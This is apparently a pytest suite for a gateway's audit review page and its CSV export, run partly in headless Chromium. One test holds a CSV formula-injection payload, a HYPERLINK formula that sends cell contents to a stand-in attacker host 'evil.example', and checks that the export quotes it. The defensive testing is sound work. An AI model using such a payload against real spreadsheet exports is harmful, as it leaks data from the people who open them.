"""The audit review page in real headless Chromium against a real gateway.

Needs the ``playwright`` package (``pip install -e '.[test]'``) and a Chromium
binary: ``WSGATE_TEST_CHROMIUM``, else ``chromium`` on PATH (Debian:
``apt-get install chromium``). Without them the test skips, except under
``CI=true`` where it fails. ``WSGATE_REVIEW_SCREENSHOT=docs/review-page.png``
saves the screenshot the README shows.
"""

import csv
import io
import json
import os
import shutil

import pytest
import tornado.httpclient

from tests.conftest import CUSTOMER, OTHER_CUSTOMER, service_missing, wait_for
from wsgate.audit.query import FIELDS

pytestmark = pytest.mark.browser

REVIEW_KEY = "review-key"
CALLS = [f"customer_id:{CUSTOMER}:call:c{i:02d}" for i in range(30)]
FOREIGN = f"customer_id:{OTHER_CUSTOMER}:call"
CHROMIUM_ARGS = ["--no-sandbox", "--headless", "--disable-gpu", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync", "--no-first-run"]


def chromium_or_skip():
    try:
        import playwright.async_api  # noqa: F401
    except ImportError:
        service_missing("the playwright package")
    path = os.environ.get("WSGATE_TEST_CHROMIUM") or shutil.which("chromium") \
        or shutil.which("chromium-browser")
    if not path:
        service_missing("headless Chromium (apt-get install chromium, or WSGATE_TEST_CHROMIUM)")
    return path


async def audit_history(server):
    """A session whose audit log holds 36 rows: alice's 30 accepted and 1 rejected
    subscribes, bob's rejected one, an access key's 2 subscribes and their 2
    disconnect ends. Returns that count."""
    admin = await server.connect("admin-token")
    reply = await admin.subscribe(*CALLS, FOREIGN)
    assert len(reply["topics"]) == 30 and reply["rejected"][0]["code"] == "forbidden"
    agent = await server.connect("agent-token")
    assert (await agent.subscribe(f"customer_id:{CUSTOMER}"))["rejected"][0]["code"] == "forbidden"
    key = await server.connect("accesskey-token")
    await key.subscribe(CALLS[0], CALLS[1])
    key.ws.close(1000)
    # The disconnect rows of the access key are written in the background.
    await server_rows(server, expect=36)
    return 36


async def server_rows(server, expect, timeout=10.0):
    """Wait until the audit API reports expect rows; return them."""
    import json

    http = tornado.httpclient.AsyncHTTPClient()
    rows = []

    async def reported():
        response = await http.fetch(server.base + "/v1.0/audit?limit=1000",
                                    headers={"Authorization": f"Bearer {REVIEW_KEY}"})
        rows[:] = json.loads(response.body)["rows"]
        assert len(rows) <= expect, rows
        return len(rows) == expect

    await wait_for(reported, timeout, interval=0.02, message=lambda: f"only {len(rows)} rows")
    return rows


@pytest.mark.gen_test(timeout=60)
async def test_review_page_in_chromium(make_server, tmp_path):
    chromium = chromium_or_skip()
    from playwright.async_api import async_playwright, expect

    server = await make_server(audit={"api_keys": [REVIEW_KEY]})
    total = await audit_history(server)

    async with async_playwright() as pw:
        browser = await pw.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
        try:
            context = await browser.new_context(accept_downloads=True,
                                                viewport={"width": 1400, "height": 900})
            page = await context.new_page()
            urls = []
            page.on("request", lambda request: urls.append(request.url))
            rows = page.locator("#rows tbody tr")

            await page.goto(server.base + "/audit/")
            # A wrong key is refused in words, and nothing is shown.
            await page.fill("#key", "not-the-key")
            await page.click("#sign-in-button")
            await expect(page.locator("#sign-in-error")).to_contain_text("not accepted")
            await expect(page.locator("#review")).to_be_hidden()

            await page.fill("#key", REVIEW_KEY)
            await page.click("#sign-in-button")
            await expect(rows).to_have_count(total)

            # Filter: bob's rejected subscribe only.
            await page.fill("input[name=subject]", "bob")
            await page.select_option("select[name=outcome]", "rejected")
            await page.click("#search")
            await expect(rows).to_have_count(1)
            await expect(rows.first.locator("td[data-column=code]")).to_have_text("forbidden")
            await expect(rows.first.locator("td[data-column=topic]")).to_have_text(
                f"customer_id:{CUSTOMER}")

            # Paging: 25 a page over every row.
            await page.click("#clear")
            await page.select_option("select[name=limit]", "25")
            await expect(rows).to_have_count(25)
            await expect(page.locator("#page-info")).to_have_text("Page 1 · rows 1–25")
            first_seq = await rows.first.locator("td[data-column=seq]").text_content()
            await page.click("#next")
            await expect(rows).to_have_count(total - 25)
            await expect(page.locator("#page-info")).to_have_text(
                f"Page 2 · rows 26–{total}")
            await expect(page.locator("#next")).to_be_disabled()
            await page.click("#prev")
            await expect(rows).to_have_count(25)
            await expect(rows.first.locator("td[data-column=seq]")).to_have_text(first_seq)

            # Export the current filter: alice's accepted rows of one topic prefix.
            await page.fill("input[name=subject]", "alice")
            await page.fill("input[name=topic_prefix]", f"customer_id:{CUSTOMER}:call")
            await page.select_option("select[name=outcome]", "accepted")
            await page.click("#search")
            await expect(rows).to_have_count(25)
            async with page.expect_download() as info:
                await page.click("#export")
            download = await info.value
            assert download.suggested_filename.startswith("wsgate-audit-")
            saved = tmp_path / "export.csv"
            await download.save_as(saved)
            exported = list(csv.reader(io.StringIO(saved.read_text())))
            assert tuple(exported[0]) == FIELDS
            body = [dict(zip(FIELDS, r, strict=True)) for r in exported[1:]]
            assert len(body) == 30
            assert sorted(r["topic"] for r in body) == sorted(CALLS)
            assert {(r["subject"], r["outcome"], r["action"]) for r in body} == {
                ("alice", "accepted", "subscribe")}

            # Verify the chain, answered in words.
            await page.click("#verify")
            result = page.locator("#verify-result")
            await expect(result).to_contain_text("The audit log is whole")
            await expect(result).to_contain_text(f"{total} subscription rows")

            # The verdict stays while the reviewer pages on: the mixed last page.
            await page.click("#clear")
            await page.click("#next")
            await expect(rows).to_have_count(total - 25)
            await expect(page.locator("tr.rejected")).to_have_count(2)
            await expect(result).to_contain_text("The audit log is whole")
            shot = os.environ.get("WSGATE_REVIEW_SCREENSHOT")
            if shot:
                await page.screenshot(path=shot, full_page=True)

            # The key never travelled in a URL, and the page kept it to this tab.
            assert urls and not [u for u in urls if REVIEW_KEY in u]
            assert await page.evaluate("sessionStorage.getItem('wsgate-audit-key')") == REVIEW_KEY
            await page.click("#sign-out")
            await expect(page.locator("#sign-in")).to_be_visible()
            assert await page.evaluate("sessionStorage.getItem('wsgate-audit-key')") is None
            await context.close()
        finally:
            await browser.close()


@pytest.mark.gen_test(timeout=20)
async def test_review_page_and_export_are_off_without_audit_keys(make_server):
    server = await make_server()
    http = tornado.httpclient.AsyncHTTPClient()
    for path in ("/audit", "/audit/", "/audit/review.js", "/v1.0/audit/export.csv"):
        response = await http.fetch(server.base + path, raise_error=False)
        assert response.code == 404, path
        # Not "no such endpoint": the answer says what is off and how to turn it on.
        error = json.loads(response.body)["error"]
        assert error["code"] == "not_found", path
        assert "is off: set [audit] api_keys to enable it" in error["message"], path
    response = await http.fetch(server.base + "/audit/", raise_error=False)
    assert json.loads(response.body)["error"]["message"].startswith("the audit review page")


@pytest.mark.gen_test(timeout=20)
async def test_review_page_headers_keep_it_self_contained(make_server):
    server = await make_server(audit={"api_keys": [REVIEW_KEY]})
    http = tornado.httpclient.AsyncHTTPClient()
    response = await http.fetch(server.base + "/audit/")
    assert b'<script src="review.js"' in response.body
    csp = response.headers["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "form-action 'none'" in csp
    assert response.headers["X-Frame-Options"] == "DENY"
    response = await http.fetch(server.base + "/audit", follow_redirects=False,
                                raise_error=False)
    assert response.code in (301, 302) and response.headers["Location"] == "/audit/"


@pytest.mark.gen_test(timeout=20)
async def test_export_needs_the_key_and_checks_filters(make_server):
    server = await make_server(audit={"api_keys": [REVIEW_KEY]})
    http = tornado.httpclient.AsyncHTTPClient()
    url = server.base + "/v1.0/audit/export.csv"
    response = await http.fetch(url, raise_error=False)
    assert response.code == 401
    response = await http.fetch(url + "?outcome=maybe", raise_error=False,
                                headers={"Authorization": f"Bearer {REVIEW_KEY}"})
    assert response.code == 400 and b"outcome" in response.body
    response = await http.fetch(url, headers={"Authorization": f"Bearer {REVIEW_KEY}"})
    assert response.headers["Content-Type"].startswith("text/csv")
    assert response.body.decode().splitlines() == [",".join(FIELDS)]


@pytest.mark.gen_test(timeout=30)
async def test_export_streams_every_page(make_server, monkeypatch):
    # Pages of 2 rows make the export read several pages and join them.
    monkeypatch.setattr("wsgate.adapters.review.MAX_PAGE", 2)
    server = await make_server(audit={"api_keys": [REVIEW_KEY]})
    client = await server.connect("admin-token")
    await client.subscribe(*CALLS[:5])
    http = tornado.httpclient.AsyncHTTPClient()
    response = await http.fetch(server.base + "/v1.0/audit/export.csv?subject=alice",
                                headers={"Authorization": f"Bearer {REVIEW_KEY}"})
    lines = list(csv.reader(io.StringIO(response.body.decode())))
    assert tuple(lines[0]) == FIELDS
    assert [r[FIELDS.index("topic")] for r in lines[1:]] == CALLS[:5]
    assert [int(r[0]) for r in lines[1:]] == [1, 2, 3, 4, 5]


@pytest.mark.gen_test(timeout=30)
async def test_export_quotes_what_a_spreadsheet_would_run(make_server):
    # The review's finding: a client's User-Agent landed in the CSV as a live formula.
    hostile_ua = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    server = await make_server(audit={"api_keys": [REVIEW_KEY]})
    client = await server.connect("admin-token", headers={"User-Agent": hostile_ua})
    reply = await client.subscribe(CALLS[0], "-1+2", "@SUM(A1)", "+1")
    assert [r["code"] for r in reply["rejected"]] == ["invalid_topic"] * 3
    http = tornado.httpclient.AsyncHTTPClient()
    response = await http.fetch(server.base + "/v1.0/audit/export.csv",
                                headers={"Authorization": f"Bearer {REVIEW_KEY}"})
    rows = list(csv.DictReader(io.StringIO(response.body.decode(), newline="")))
    assert [r["topic"] for r in rows] == [CALLS[0], "'-1+2", "'@SUM(A1)", "'+1"]
    assert {r["user_agent"] for r in rows} == {"'" + hostile_ua}
    assert rows[0]["code"] == "" and rows[0]["outcome"] == "accepted"  # empty: empty cell
    # The JSON API shows the same rows exactly as stored, empty as null.
    rows = await server_rows(server, expect=4)
    assert [r["topic"] for r in rows] == [CALLS[0], "-1+2", "@SUM(A1)", "+1"]
    assert {r["user_agent"] for r in rows} == {hostile_ua}
    assert rows[0]["code"] is None


@pytest.mark.gen_test(timeout=30)
async def test_a_reviewer_who_leaves_mid_export_is_no_uncaught_exception(
        make_server, monkeypatch, caplog):
    """The browser closes while the CSV streams: the export stops quietly (one INFO
    line), not with Tornado's "Uncaught exception" traceback."""
    import asyncio
    import socket
    import struct

    caplog.set_level("INFO")
    monkeypatch.setattr("wsgate.adapters.review.MAX_PAGE", 1)
    server = await make_server(audit={"api_keys": [REVIEW_KEY]})
    client = await server.connect("admin-token")
    await client.subscribe(*CALLS)
    reader, writer = await asyncio.open_connection("127.0.0.1", server.port)
    writer.write(b"GET /v1.0/audit/export.csv HTTP/1.1\r\nHost: x\r\n"
                 b"Authorization: Bearer " + REVIEW_KEY.encode() + b"\r\n\r\n")
    await writer.drain()
    assert (await reader.readuntil(b"\r\n\r\n")).startswith(b"HTTP/1.1 200")
    # Leave at once and hard (RST): the next flush of the export fails.
    sock = writer.get_extra_info("socket")
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    writer.close()
    await wait_for(lambda: any("closed the connection before the end" in r.getMessage()
                               for r in caplog.records), timeout=10)
    assert not [r for r in caplog.records if r.levelname in ("ERROR", "CRITICAL")]


@pytest.mark.gen_test(timeout=60)
async def test_a_scoped_review_key_sees_only_its_customers_rows_in_chromium(
        make_server, tmp_path):
    """SPEC §6 "Scoped review keys": the page, its export and verify, in Chromium."""
    chromium = chromium_or_skip()
    from playwright.async_api import async_playwright, expect

    acme_key = "acme-review-key"
    server = await make_server(audit={"api_keys": [
        REVIEW_KEY, {"key": acme_key, "customers": [CUSTOMER]}]})
    ours = await audit_history(server)  # all of CUSTOMER
    root = await server.connect("super-token")  # a principal of OTHER_CUSTOMER
    secret = f"customer_id:{OTHER_CUSTOMER}:call:other-customers-call"
    assert (await root.subscribe(secret))["topics"] == [secret]
    await server_rows(server, expect=ours + 1)

    async with async_playwright() as pw:
        browser = await pw.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
        try:
            context = await browser.new_context(accept_downloads=True,
                                                viewport={"width": 1400, "height": 900})
            page = await context.new_page()
            rows = page.locator("#rows tbody tr")
            await page.goto(server.base + "/audit/")
            await page.fill("#key", acme_key)
            await page.click("#sign-in-button")
            await page.select_option("select[name=limit]", "100")
            await expect(rows).to_have_count(ours)
            customers = await page.locator("td[data-column=customer_id]").all_text_contents()
            assert set(customers) == {CUSTOMER}
            assert "other-customers-call" not in await page.content()

            # Filtering another customer is refused, in words, with no row shown.
            await page.fill("input[name=customer]", OTHER_CUSTOMER)
            await page.click("#search")
            await expect(page.locator("#status")).to_contain_text("only its customers")
            assert "other-customers-call" not in await page.content()

            await page.click("#clear")
            await expect(rows).to_have_count(ours)
            async with page.expect_download() as info:
                await page.click("#export")
            saved = tmp_path / "scoped.csv"
            await (await info.value).save_as(saved)
            exported = list(csv.reader(io.StringIO(saved.read_text())))
            body = [dict(zip(FIELDS, r, strict=True)) for r in exported[1:]]
            assert len(body) == ours and {r["customer_id"] for r in body} == {CUSTOMER}
            assert "other-customers-call" not in saved.read_text()

            await page.click("#verify")
            await expect(page.locator("#verify-result")).to_contain_text(
                "needs an audit API key without customers")
            await context.close()
        finally:
            await browser.close()
